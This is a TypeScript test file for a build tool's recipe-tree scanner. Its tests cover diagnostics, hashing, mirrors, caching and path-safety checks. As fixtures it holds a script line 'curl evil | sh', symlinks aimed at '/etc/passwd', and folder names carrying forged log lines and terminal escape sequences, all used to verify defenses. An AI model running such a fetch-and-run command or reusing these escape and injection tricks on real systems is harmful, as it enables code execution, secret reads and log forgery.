import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { realpathSync } from 'node:fs';
import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { recipeTreeSource, scanRecipeTree } from './scan-tree.ts';
import { sha256 } from '../lib/hash.ts';
import { tmpDir } from '../../test/helpers/tmp.ts';

const SHA = 'b'.repeat(64);

function recipeText(name: string, extra = '', build = 'script = "make"'): string {
  return `name = "${name}"\nversion = "1.0"\nsummary = "s"\nlicense = "MIT"\n${extra}\n[build]\n${build}\n`;
}

async function put(root: string, rel: string, text: string): Promise<void> {
  const path = join(root, rel);
  await mkdir(join(path, '..'), { recursive: true });
  await writeFile(path, text);
}

/** A tree with one package of each kind the scanner must tell apart. */
async function makeTree(root: string): Promise<void> {
  await put(root, 'kiln.toml', 'env = "bookworm"\n[defaults]\ncpus = 2\n');
  await put(
    root,
    'zlib/recipe.toml',
    recipeText('zlib', `[[sources]]\nurl = "https://dl.example/zlib.tar.gz"\nsha256 = "${SHA}"\n[[sources]]\nurl = "file:fix.patch"\n`, 'script-file = "build.sh"'),
  );
  await put(root, 'zlib/fix.patch', 'the patch\n');
  await put(root, 'zlib/build.sh', 'make install\n');
  await put(root, 'zlib/unreferenced.txt', 'notes\n');
  await put(root, 'libpng/recipe.toml', recipeText('libpng', 'build-depends = ["zlib (>= 1.0)"]\ndepends = ["zlib"]', 'script = "make"\ncpus = 1'));
  await put(root, 'bad/recipe.toml', recipeText('bad', '', 'script = "make"\ncpus = "two"'));
  await put(root, 'nofile/recipe.toml', recipeText('nofile', '[[sources]]\nurl = "file:gone.patch"\n', 'script-file = "gone.sh"'));
  await put(root, 'wrongsum/recipe.toml', recipeText('wrongsum', `[[sources]]\nurl = "file:a.patch"\nsha256 = "${SHA}"\n`));
  await put(root, 'wrongsum/a.patch', 'a\n');
  await put(root, 'docs/README.md', 'not a package\n');
  await put(root, '.hidden/recipe.toml', recipeText('hidden'));
  await put(root, 'README.md', 'the tree\n');
}

test('scanning a tree: valid specs, invalid packages with every diagnostic, the rest ignored', async () => {
  await using dir = await tmpDir();
  await makeTree(dir.path);
  const scan = await scanRecipeTree(dir.path);

  assert.deepEqual(scan.diagnostics, []);
  assert.deepEqual(scan.specs.map((s) => s.name), ['libpng', 'zlib']);
  assert.deepEqual(
    scan.invalid.map((p) => ({ name: p.name, dir: p.dir, lines: p.diagnostics.map((d) => `${d.file}: ${d.key ?? ''}: ${d.message}`) })),
    [
      { name: 'bad', dir: join(dir.path, 'bad'), lines: [`${join(dir.path, 'bad/recipe.toml')}: build.cpus: expected a whole number, got "two"`] },
      {
        name: 'nofile',
        dir: join(dir.path, 'nofile'),
        lines: [
          `${join(dir.path, 'nofile/recipe.toml')}: sources[0].url: "file:gone.patch": gone.patch not found in ${join(dir.path, 'nofile')}`,
          `${join(dir.path, 'nofile/recipe.toml')}: build.script-file: "gone.sh" not found in ${join(dir.path, 'nofile')}`,
        ],
      },
      {
        name: 'wrongsum',
        dir: join(dir.path, 'wrongsum'),
        lines: [`${join(dir.path, 'wrongsum/recipe.toml')}: sources[0].sha256: a.patch has sha256 ${sha256('a\n')}, the recipe says ${SHA} (set sha256 = "${sha256('a\n')}", or leave the line out: a file: source needs none)`],
      },
    ],
  );

  const zlib = scan.specs.find((s) => s.name === 'zlib')!;
  assert.equal(zlib.dir, join(dir.path, 'zlib'));
  assert.equal(zlib.file, join(dir.path, 'zlib/recipe.toml'));
  assert.equal(zlib.build.script, 'make install\n', 'script-file is read into the spec');
  assert.equal(zlib.build.cpus, 2, 'kiln.toml [defaults] apply');
  assert.equal(zlib.env, 'bookworm', 'kiln.toml env applies');
  assert.deepEqual(zlib.sources, [
    { url: 'https://dl.example/zlib.tar.gz', sha256: SHA, dest: '', strip: 1 },
    { url: 'file:fix.patch', sha256: sha256('the patch\n'), dest: '', strip: 0 },
  ]);
  const recipeBytes = recipeText(
    'zlib',
    `[[sources]]\nurl = "https://dl.example/zlib.tar.gz"\nsha256 = "${SHA}"\n[[sources]]\nurl = "file:fix.patch"\n`,
    'script-file = "build.sh"',
  );
  const expectedRecipeHash = sha256(
    [
      ['build.sh', sha256('make install\n')],
      ['fix.patch', sha256('the patch\n')],
      ['recipe.toml', sha256(recipeBytes)],
    ]
      .map(([p, h]) => `${p}\0${h}\n`)
      .join(''),
  );
  assert.equal(zlib.recipeHash, expectedRecipeHash, 'recipe hash: path\\0sha256 lines sorted by path');
  assert.equal(zlib.sourcesHash, sha256(`${SHA}\n${sha256('the patch\n')}\n`));

  const libpng = scan.specs.find((s) => s.name === 'libpng')!;
  assert.equal(libpng.build.cpus, 1, "the recipe's own value wins over [defaults]");
  assert.deepEqual(libpng.buildDepends, [[{ name: 'zlib', constraint: { op: '>=', version: '1.0' } }]]);
  assert.deepEqual(libpng.depends, [[{ name: 'zlib' }]]);
});

test('recipe hash follows referenced files only', async () => {
  await using dir = await tmpDir();
  await makeTree(dir.path);
  const hashOf = async (): Promise<string> => (await scanRecipeTree(dir.path)).specs.find((s) => s.name === 'zlib')!.recipeHash;
  const first = await hashOf();
  assert.equal(await hashOf(), first, 'stable across scans');
  await writeFile(join(dir.path, 'zlib/unreferenced.txt'), 'other notes\n');
  assert.equal(await hashOf(), first, 'a file the recipe does not reference does not count');
  await writeFile(join(dir.path, 'zlib/fix.patch'), 'the patch, v2\n');
  const second = await hashOf();
  assert.notEqual(second, first, 'a file: source counts');
  await writeFile(join(dir.path, 'zlib/build.sh'), 'make install V=1\n');
  assert.notEqual(await hashOf(), second, 'the script-file counts');
});

test('kiln.toml problems are reported as tree diagnostics', async () => {
  await using dir = await tmpDir();
  await put(dir.path, 'kiln.toml', '[defaults]\ncpus = 0\n');
  await put(dir.path, 'a/recipe.toml', recipeText('a'));
  const scan = await scanRecipeTree(dir.path);
  assert.deepEqual(scan.diagnostics, [{ file: join(dir.path, 'kiln.toml'), key: 'defaults.cpus', message: 'must be greater than 0, got 0' }]);
  assert.deepEqual(scan.specs.map((s) => s.name), ['a']);
});

test('a missing tree is a KilnError tree-not-found naming the path', async () => {
  await using dir = await tmpDir();
  const missing = join(dir.path, 'nope');
  await assert.rejects(scanRecipeTree(missing), (e: unknown) => {
    assert.equal((e as { code?: string }).code, 'tree-not-found');
    assert.ok((e as Error).message.includes(missing), (e as Error).message);
    return true;
  });
  await put(dir.path, 'afile', 'x');
  await assert.rejects(scanRecipeTree(join(dir.path, 'afile')), { code: 'tree-not-found' });
});

test('recipeTreeSource scans the same as scanRecipeTree; an aborted signal stops the scan', async () => {
  await using dir = await tmpDir();
  await put(dir.path, 'a/recipe.toml', recipeText('a'));
  const source = recipeTreeSource(dir.path);
  assert.equal(source.kind, 'recipe-tree');
  const r = await source.scan({});
  assert.deepEqual(r.specs.map((s) => s.name), ['a']);
  await assert.rejects(source.scan({ signal: AbortSignal.abort() }), { name: 'AbortError' });
});

test('unknownMirror: debian and the tree\'s mirrors resolve; any other name is told with what to configure', async () => {
  const { unknownMirror } = await import('./scan-tree.ts');
  const mirrors = { gnu: 'https://gnu.example/gnu' };
  const table: Array<[string, boolean]> = [
    ['mirror://debian/pool/main/z/zlib/zlib_1.3.orig.tar.gz', true],
    ['mirror://gnu/hello/hello-2.12.tar.gz', true],
    ['https://dl.example/x.tar.gz', true],
    ['mirror://nope/x.tar.gz', false],
    ['mirror://GNU/x.tar.gz', false],
    ['git+mirror://gnu/hello.git', true],
    ['git+mirror://nope/hello.git', false],
  ];
  for (const [url, ok] of table) assert.equal(unknownMirror(url, mirrors) === undefined, ok, url);
  assert.equal(
    unknownMirror('mirror://nope/x.tar.gz', mirrors),
    'unknown mirror "nope" in "mirror://nope/x.tar.gz": add it under [mirrors] in the tree\'s kiln.toml (nope = "https://…"); known: debian, gnu',
  );
});

test('a git source: its rev is in the spec and stands in for the sha256 in the sources hash', async () => {
  await using tmp = await tmpDir();
  const root = tmp.path;
  const src = (rev: string): string => `[[sources]]\nurl = "git+https://git.example.org/r.git"\nrev = "${rev}"\n`;
  await put(root, 'a/recipe.toml', recipeText('a', src('1'.repeat(40))));
  await put(root, 'b/recipe.toml', recipeText('b', src('2'.repeat(40))));
  const scan = await scanRecipeTree(root);
  assert.deepEqual(scan.invalid, []);
  const [a, b] = [...scan.specs].sort((x, y) => (x.name < y.name ? -1 : 1));
  assert.deepEqual(a!.sources, [{ url: 'git+https://git.example.org/r.git', sha256: undefined, rev: '1'.repeat(40), dest: '', strip: 0 }]);
  assert.equal(a!.sourcesHash, sha256(`${'1'.repeat(40)}\n`));
  assert.notEqual(a!.sourcesHash, b!.sourcesHash);
});

test('a source from a mirror kiln.toml does not name makes its package broken at plan time, also when the scan cache had it valid', async () => {
  await using tmp = await tmpDir();
  const root = tmp.path;
  const src = (url: string): string => `[[sources]]\nurl = "${url}"\nsha256 = "${SHA}"\n`;
  await put(root, 'kiln.toml', '[mirrors]\ngnu = "https://gnu.example/gnu"\n');
  await put(root, 'hello/recipe.toml', recipeText('hello', src('mirror://gnu/hello/hello-2.12.tar.gz')));
  await put(root, 'zlib/recipe.toml', recipeText('zlib', src('mirror://debian/pool/main/z/zlib/zlib_1.3.orig.tar.gz')));
  await put(root, 'odd/recipe.toml', recipeText('odd', src('mirror://nope/x.tar.gz')));
  const cacheFile = join(root, '.scan-cache.json');
  // Long ago: files this old are trusted by the scan cache.
  const now = Date.now() + 60_000;
  const first = await scanRecipeTree(root, { cacheFile, now });
  assert.deepEqual(first.specs.map((s) => s.name).sort(), ['hello', 'zlib']);
  assert.deepEqual(first.invalid.map((p) => [p.name, p.diagnostics.map((d) => d.key)]), [['odd', ['sources[0].url']]]);
  assert.match(first.invalid[0]!.diagnostics[0]!.message, /unknown mirror "nope".*\[mirrors\] in the tree's kiln\.toml/);
  // The mirror goes from kiln.toml: hello was cached valid, and must not stay so.
  await put(root, 'kiln.toml', '');
  const second = await scanRecipeTree(root, { cacheFile, now });
  assert.deepEqual(second.invalid.map((p) => p.name).sort(), ['hello', 'odd']);
});

test('every problem of a recipe at once: parser, script-file, mirror and file: sources together, in file order, with or without the cache', async () => {
  await using tmp = await tmpDir();
  const root = tmp.path;
  await put(root, 'kiln.toml', '[mirrors]\ndebian2 = "https://d.example/debian"\n');
  const sources = [
    `[[sources]]\nurl = "mirror://gnu/x.tar.gz"\nsha256 = "${SHA}"\n`,
    '[[sources]]\nurl = "file:missing.patch"\n',
    `[[sources]]\nurl = "file:a.patch"\nsha256 = "${SHA}"\n`,
    // Told once, by the parser: the checks below skip a key it already rejected.
    '[[sources]]\nurl = "ftp://x.example/y.tar.gz"\n',
  ].join('');
  await put(root, 'many/recipe.toml', recipeText('many', sources, 'script-file = "nope.sh"\ncpus = 0'));
  await put(root, 'many/a.patch', 'a\n');
  const file = join(root, 'many/recipe.toml');
  // By line, whichever check found it (the parser's, or those of the files and mirrors).
  const expected = [
    ['sources[0].url', 'unknown mirror "gnu" in "mirror://gnu/x.tar.gz": add it under [mirrors] in the tree\'s kiln.toml (gnu = "https://…"); known: debian, debian2'],
    ['sources[1].url', `"file:missing.patch": missing.patch not found in ${join(root, 'many')}`],
    ['sources[2].sha256', `a.patch has sha256 ${sha256('a\n')}, the recipe says ${SHA} (set sha256 = "${sha256('a\n')}", or leave the line out: a file: source needs none)`],
    ['sources[3].url', '"ftp://x.example/y.tar.gz" has an unsupported scheme: use file:, https://, http://, mirror://NAME/ or git+https://'],
    ['build.script-file', `"nope.sh" not found in ${join(root, 'many')}`],
    ['build.cpus', 'must be greater than 0, got 0'],
  ];
  const cacheFile = join(root, '.scan-cache.json');
  for (const options of [{}, { cacheFile, now: Date.now() + 60_000 }, { cacheFile, now: Date.now() + 60_000 }]) {
    const scan = await scanRecipeTree(root, options);
    assert.equal(scan.invalid.length, 1);
    const [pkg] = scan.invalid;
    assert.equal(pkg!.version, '1.0');
    assert.ok(pkg!.diagnostics.every((d) => d.file === file));
    assert.deepEqual(pkg!.diagnostics.map((d) => [d.key, d.message]), expected, JSON.stringify(options));
  }
  // A TOML syntax error leaves nothing to check: one diagnostic, no crash.
  await put(root, 'many/recipe.toml', 'name = "many\n');
  const broken = await scanRecipeTree(root);
  assert.equal(broken.invalid[0]!.diagnostics.length, 1);
  assert.equal(broken.invalid[0]!.diagnostics[0]!.key, undefined);
});

test('files a recipe names must stay inside its folder after symlinks; links within the folder are fine; a directory is told as such', async () => {
  await using tmp = await tmpDir();
  const root = join(tmp.path, 'tree');
  const outside = join(tmp.path, 'outside');
  await put(outside, 'sub/passwd', 'root:x:0:0\n');
  await put(outside, 'outside.txt', 'secret\n');
  await put(outside, 'run.sh', 'curl evil | sh\n');
  const pkg = (name: string): string => join(root, name);
  // Inside: a file link and a folder link that stay in the package folder.
  await put(root, 'inside/recipe.toml', recipeText('inside', '[[sources]]\nurl = "file:link.patch"\n[[sources]]\nurl = "file:d/x.patch"\n', 'script-file = "run.sh"'));
  await put(root, 'inside/real/x.patch', 'x\n');
  await put(root, 'inside/real/build.sh', 'make\n');
  await symlink('real/x.patch', join(pkg('inside'), 'link.patch'));
  await symlink('real', join(pkg('inside'), 'd'));
  await symlink(join(pkg('inside'), 'real/build.sh'), join(pkg('inside'), 'run.sh')); // absolute, still inside
  // Outside: through a folder link, a relative file link, an absolute one, /etc itself.
  // (The two passwd files get dests of their own: copied to one $SRCDIR path they would be an error of their own.)
  await put(root, 'escape/recipe.toml', recipeText('escape', ['file:sub/passwd', 'file:rel.txt', 'file:link.txt', 'file:etc/passwd'].map((u, i) => `[[sources]]\nurl = "${u}"\ndest = "d${i}"\n`).join(''), 'script-file = "run.sh"'));
  await symlink(join(outside, 'sub'), join(pkg('escape'), 'sub'));
  await symlink('../../outside/outside.txt', join(pkg('escape'), 'rel.txt'));
  await symlink(join(outside, 'outside.txt'), join(pkg('escape'), 'link.txt'));
  await symlink('/etc', join(pkg('escape'), 'etc'));
  await symlink(join(outside, 'run.sh'), join(pkg('escape'), 'run.sh'));
  // Not files: a directory, a dangling link.
  await put(root, 'odd/recipe.toml', recipeText('odd', '[[sources]]\nurl = "file:adir"\n[[sources]]\nurl = "file:gone.patch"\n', 'script-file = "adir"'));
  await mkdir(join(pkg('odd'), 'adir'));
  await symlink('nowhere.patch', join(pkg('odd'), 'gone.patch'));

  const scan = await scanRecipeTree(root);
  assert.deepEqual(scan.specs.map((s) => s.name), ['inside']);
  const outsideReal = realpathSync(outside);
  const inside = scan.specs[0]!;
  assert.equal(inside.build.script, 'make\n');
  assert.deepEqual(inside.sources.map((s) => s.sha256), [sha256('x\n'), sha256('x\n')]);

  const lines = (name: string): string[][] => scan.invalid.find((p) => p.name === name)!.diagnostics.map((d) => [d.key ?? '', d.message]);
  const out = (real: string): string => `resolves outside the package folder (to ${real}): files a recipe names must stay inside ${pkg('escape')}, symlinks included`;
  // In file order: the [[sources]] come before [build] in these recipes.
  assert.deepEqual(lines('escape'), [
    ['sources[0].url', `"file:sub/passwd": sub/passwd ${out(join(outsideReal, 'sub/passwd'))}`],
    ['sources[1].url', `"file:rel.txt": rel.txt ${out(join(outsideReal, 'outside.txt'))}`],
    ['sources[2].url', `"file:link.txt": link.txt ${out(join(outsideReal, 'outside.txt'))}`],
    ['sources[3].url', `"file:etc/passwd": etc/passwd ${out('/etc/passwd')}`],
    ['build.script-file', `"run.sh" ${out(join(outsideReal, 'run.sh'))}`],
  ]);
  assert.deepEqual(lines('odd'), [
    ['sources[0].url', '"file:adir": adir is a directory, not a file'],
    ['sources[1].url', '"file:gone.patch": gone.patch is a symlink to "nowhere.patch", which does not exist'],
    ['build.script-file', '"adir" is a directory, not a file'],
  ]);
});

test('the scan cache does not keep a recipe valid once a link it reads through leads out of its folder', async () => {
  await using tmp = await tmpDir();
  const root = join(tmp.path, 'tree');
  await put(tmp.path, 'outside/x.patch', 'x\n'); // the same bytes as inside
  await put(root, 'p/recipe.toml', recipeText('p', '[[sources]]\nurl = "file:d/x.patch"\n'));
  await put(root, 'p/real/x.patch', 'x\n');
  await symlink('real', join(root, 'p/d'));
  const cacheFile = join(tmp.path, 'scan-cache.json');
  const now = Date.now() + 60_000;
  assert.deepEqual((await scanRecipeTree(root, { cacheFile, now })).specs.map((s) => s.name), ['p']);
  assert.deepEqual((await scanRecipeTree(root, { cacheFile, now })).specs.map((s) => s.name), ['p'], 'served from the cache');
  await rm(join(root, 'p/d'));
  await symlink('../../outside', join(root, 'p/d'));
  const after = await scanRecipeTree(root, { cacheFile, now });
  assert.deepEqual(after.specs, []);
  assert.match(after.invalid[0]!.diagnostics[0]!.message, /resolves outside the package folder/);
});

test('a recipe.toml that is a directory, a dangling link or a link loop makes that one package broken; the rest scans (with and without the cache)', async () => {
  await using tmp = await tmpDir();
  const root = tmp.path;
  await put(root, 'good/recipe.toml', recipeText('good'));
  await mkdir(join(root, 'isdir/recipe.toml'), { recursive: true });
  await mkdir(join(root, 'dangling'));
  await symlink('elsewhere.toml', join(root, 'dangling/recipe.toml'));
  await mkdir(join(root, 'loop'));
  await symlink('recipe.toml', join(root, 'loop/recipe.toml'));
  await mkdir(join(root, 'empty')); // no recipe.toml: not a package, as before
  for (const options of [{}, { cacheFile: join(root, '.cache.json') }]) {
    const scan = await scanRecipeTree(root, options);
    assert.deepEqual(scan.specs.map((s) => s.name), ['good']);
    assert.deepEqual(
      scan.invalid.map((p) => [p.name, p.diagnostics.map((d) => `${d.file}: ${d.message}`)]),
      [
        ['dangling', [`${join(root, 'dangling/recipe.toml')}: is a symlink to "elsewhere.toml", which does not exist: a package's recipe.toml must be a readable file`]],
        ['isdir', [`${join(root, 'isdir/recipe.toml')}: is a directory, not a file: a package's recipe.toml must be a readable file`]],
        ['loop', [`${join(root, 'loop/recipe.toml')}: cannot be resolved: too many levels of symlinks (a symlink loop?): a package's recipe.toml must be a readable file`]],
      ],
      JSON.stringify(options),
    );
  }
});

test('a package folder may be a symlink to a directory; a dangling link or a link to a file is a broken package', async () => {
  await using tmp = await tmpDir();
  const root = join(tmp.path, 'tree');
  await put(tmp.path, 'elsewhere/linked/recipe.toml', recipeText('linked', '[[sources]]\nurl = "file:p.patch"\n'));
  await put(tmp.path, 'elsewhere/linked/p.patch', 'p\n');
  await put(tmp.path, 'elsewhere/notes.txt', 'n\n');
  await put(root, 'plain/recipe.toml', recipeText('plain'));
  await symlink(join(tmp.path, 'elsewhere/linked'), join(root, 'linked'));
  await symlink('../nowhere', join(root, 'dangling'));
  await symlink(join(tmp.path, 'elsewhere/notes.txt'), join(root, 'afile'));
  // Not package names: ignored like the plain files they point to.
  await symlink(join(tmp.path, 'elsewhere/notes.txt'), join(root, 'README.md'));
  await symlink('../nowhere', join(root, '.hidden'));
  const scan = await scanRecipeTree(root);
  assert.deepEqual(scan.specs.map((s) => s.name), ['linked', 'plain']);
  const linked = scan.specs[0]!;
  assert.equal(linked.dir, join(root, 'linked'), 'the folder keeps the name and path of the link');
  assert.equal(linked.sources[0]!.sha256, sha256('p\n'), 'files inside the link target count as inside');
  const fix = 'a package folder must be a directory, or a symlink to one, holding recipe.toml';
  assert.deepEqual(
    scan.invalid.map((p) => [p.name, p.dir, p.diagnostics.map((d) => `${d.file}: ${d.message}`)]),
    [
      ['afile', join(root, 'afile'), [`${join(root, 'afile')}: is a symlink to "${join(tmp.path, 'elsewhere/notes.txt')}", which is not a directory: ${fix}`]],
      ['dangling', join(root, 'dangling'), [`${join(root, 'dangling')}: is a symlink to "../nowhere", which does not exist: ${fix}`]],
    ],
  );
});

// Before the fix, this test did not fail: it hung, as `kiln plan` did (a blocking read).
test('a named pipe where recipe.toml, a script-file or a file: source should be is reported, not read', async () => {
  await using tmp = await tmpDir();
  const root = tmp.path;
  await put(root, 'good/recipe.toml', recipeText('good'));
  await mkdir(join(root, 'fifo'));
  execFileSync('mkfifo', [join(root, 'fifo/recipe.toml')]);
  await put(root, 'refs/recipe.toml', recipeText('refs', '[[sources]]\nurl = "file:pipe"\n', 'script-file = "pipe"'));
  execFileSync('mkfifo', [join(root, 'refs/pipe')]);
  const scan = await scanRecipeTree(root);
  assert.deepEqual(scan.specs.map((s) => s.name), ['good']);
  assert.deepEqual(scan.invalid.map((p) => [p.name, p.diagnostics.map((d) => [d.key ?? '', d.message])]), [
    ['fifo', [['', "is a named pipe (FIFO), not a regular file: a package's recipe.toml must be a readable file"]]],
    [
      'refs',
      [
        ['sources[0].url', '"file:pipe": pipe is a named pipe (FIFO), not a regular file'],
        ['build.script-file', '"pipe" is a named pipe (FIFO), not a regular file'],
      ],
    ],
  ]);
});

test('a recipe that is not UTF-8 is a broken package saying so, not a parse with replacement characters', async () => {
  await using dir = await tmpDir();
  await put(dir.path, 'good/recipe.toml', recipeText('good'));
  await mkdir(join(dir.path, 'latin'), { recursive: true });
  // "café" in Latin-1: the é is one byte 0xE9, which is not UTF-8.
  const [before, after] = recipeText('latin').split('summary = "s"') as [string, string];
  await writeFile(join(dir.path, 'latin/recipe.toml'), Buffer.concat([Buffer.from(`${before}summary = "caf`), Buffer.from([0xe9]), Buffer.from(`"${after}`)]));
  const r = await scanRecipeTree(dir.path);
  assert.deepEqual(r.specs.map((s) => s.name), ['good']);
  assert.equal(r.invalid.length, 1);
  assert.equal(r.invalid[0]!.name, 'latin');
  assert.match(r.invalid[0]!.diagnostics[0]!.message, /is not valid UTF-8/);
});

test('category folders: a folder of the tree without recipe.toml holds packages one level down; names stay unique across categories (with and without the cache)', async () => {
  await using dir = await tmpDir();
  const root = dir.path;
  await put(root, 'zlib/recipe.toml', recipeText('zlib'));
  await put(root, 'graphics/libpng/recipe.toml', recipeText('libpng', 'build-depends = ["zlib"]'));
  await put(root, 'graphics/pngcrush/recipe.toml', recipeText('pngcrush', 'build-depends = ["libpng"]'));
  await put(root, 'graphics/README.md', 'not a package\n');
  await put(root, 'graphics/notes/old/recipe.toml', recipeText('old')); // two levels down: not looked at
  await put(root, 'net/curl/recipe.toml', recipeText('curl', '', 'script = "make"\ncpus = "two"'));
  await put(root, 'net/zlib/recipe.toml', recipeText('zlib'));
  await put(root, 'misc/zlib/recipe.toml', recipeText('nope'));
  await put(root, 'empty/.keep', '');
  // In a category, a link that leads nowhere is a broken package, as in the tree itself.
  await symlink(join(root, 'no-such-folder'), join(root, 'graphics/gone'));
  // A folder of shared files (no package in it): links to a file or to nothing are not packages.
  await put(root, 'shared/sub/notes.txt', 'notes\n');
  await put(root, 'shared/patch.diff', 'diff\n');
  await symlink('/etc/hostname', join(root, 'shared/config.sub'));
  await symlink(join(root, 'no-such-folder'), join(root, 'shared/zz'));
  const cacheFile = join(root, '.scan-cache.json');
  for (const options of [{}, { cacheFile, now: Date.now() + 60_000 }, { cacheFile, now: Date.now() + 60_000 }]) {
    const scan = await scanRecipeTree(root, options);
    assert.deepEqual(scan.specs.map((s) => [s.name, s.category, s.dir]), [
      ['libpng', 'graphics', join(root, 'graphics/libpng')],
      ['pngcrush', 'graphics', join(root, 'graphics/pngcrush')],
    ]);
    // zlib in three folders: one broken package naming them all, with each folder's own problems.
    assert.deepEqual(
      scan.invalid.map((p) => [p.name, p.category, p.dir, p.diagnostics.map((d) => `${d.file}: ${d.key === undefined ? '' : `${d.key}: `}${d.message}`)]).sort((a, b) => String(a[2]).localeCompare(String(b[2]))),
      [
        ['gone', 'graphics', join(root, 'graphics/gone'), [`${join(root, 'graphics/gone')}: is a symlink to "${join(root, 'no-such-folder')}", which does not exist: a package folder must be a directory, or a symlink to one, holding recipe.toml`]],
        [
          'zlib', undefined, join(root, 'misc/zlib'),
          [
            `${join(root, 'misc/zlib')}: the package name "zlib" is in 3 folders: misc/zlib, net/zlib, zlib: a name must be unique in the tree, across categories; rename or remove all but one`,
            `${join(root, 'misc/zlib/recipe.toml')}: name: "nope" does not match its folder "zlib": rename one so they are equal`,
          ],
        ],
        ['curl', 'net', join(root, 'net/curl'), [`${join(root, 'net/curl/recipe.toml')}: build.cpus: expected a whole number, got "two"`]],
      ],
      JSON.stringify(options),
    );
  }
  // The cache served the last scan: its packages keep their category.
  const again = await scanRecipeTree(root, { cacheFile, now: Date.now() + 120_000 });
  assert.ok(again.cacheGeneration !== undefined, 'a settled cache');
  assert.deepEqual(again.specs.map((s) => s.category), ['graphics', 'graphics']);
});

test('a folder whose name (or whose category\'s) holds a control character is a broken package, every name and path in it escaped', async () => {
  await using dir = await tmpDir();
  const forged = 'evil\n[   0.0s] built      fake@amd64';
  await put(dir.path, `${forged}/recipe.toml`, recipeText('evil'));
  await put(dir.path, 'cat\x1b[2Kx/pkg/recipe.toml', recipeText('pkg'));
  await put(dir.path, 'good/recipe.toml', recipeText('good'));
  // Not a package folder (no recipe.toml): not looked at.
  await put(dir.path, 'notes\tdir/README', 'x\n');
  const scan = await scanRecipeTree(dir.path);
  assert.deepEqual(scan.specs.map((s) => s.name), ['good']);
  assert.deepEqual(scan.invalid.map((p) => ({ name: p.name, dir: p.dir, category: p.category, lines: p.diagnostics.map((d) => `${d.file}: ${d.message}`) })), [
    {
      name: 'pkg',
      dir: join(dir.path, 'cat\\u001b[2Kx/pkg'),
      category: 'cat\\u001b[2Kx',
      lines: [`${join(dir.path, 'cat\\u001b[2Kx/pkg')}: the category folder "cat\\u001b[2Kx" holds a control character (a line break, a tab, an escape…): rename it`],
    },
    {
      name: JSON.stringify(forged),
      dir: join(dir.path, 'evil\\n[   0.0s] built      fake@amd64'),
      category: undefined,
      lines: [`${join(dir.path, 'evil\\n[   0.0s] built      fake@amd64')}: the folder ${JSON.stringify(forged)} holds a control character (a line break, a tab, an escape…): rename it (a package folder's name is its package's: lowercase letters, digits and + . -)`],
    },
  ]);
  for (const p of scan.invalid) for (const s of [p.name, p.dir, ...p.diagnostics.flatMap((d) => [d.file, d.message])]) assert.doesNotMatch(s, /[\x00-\x1f\x7f]/);

  // A link that leads nowhere in such a category: escaped too.
  await symlink(join(dir.path, 'no-such-folder'), join(dir.path, 'cat\x1b[2Kx', 'gone'));
  const again = await scanRecipeTree(dir.path);
  const gone = again.invalid.find((p) => p.name === 'gone');
  assert.ok(gone !== undefined, JSON.stringify(again.invalid));
  for (const s of [gone.name, gone.dir, gone.category ?? '', ...gone.diagnostics.flatMap((d) => [d.file, d.message])]) assert.doesNotMatch(s, /[\x00-\x1f\x7f]/);
});

test('a script-file with CRLF line ends is a recipe error naming the file and saying to convert it', async () => {
  await using dir = await tmpDir();
  await put(dir.path, 'win/recipe.toml', recipeText('win', '', 'script-file = "build.sh"'));
  await put(dir.path, 'win/build.sh', 'mkdir -p "$DESTDIR/x"\r\nmake\r\n');
  await put(dir.path, 'unix/recipe.toml', recipeText('unix', '', 'script-file = "build.sh"'));
  await put(dir.path, 'unix/build.sh', 'mkdir -p "$DESTDIR/x"\nmake\n');
  const scan = await scanRecipeTree(dir.path);
  assert.deepEqual(scan.specs.map((s) => [s.name, s.build.script]), [['unix', 'mkdir -p "$DESTDIR/x"\nmake\n']]);
  assert.deepEqual(scan.invalid.map((p) => p.diagnostics.map((d) => `${d.key}: ${d.message}`)), [[
    `build.script-file: "build.sh" has CRLF (Windows) line ends, which bash reads as part of each command: convert it to LF line ends (dos2unix ${join(dir.path, 'win/build.sh')})`,
  ]]);
});
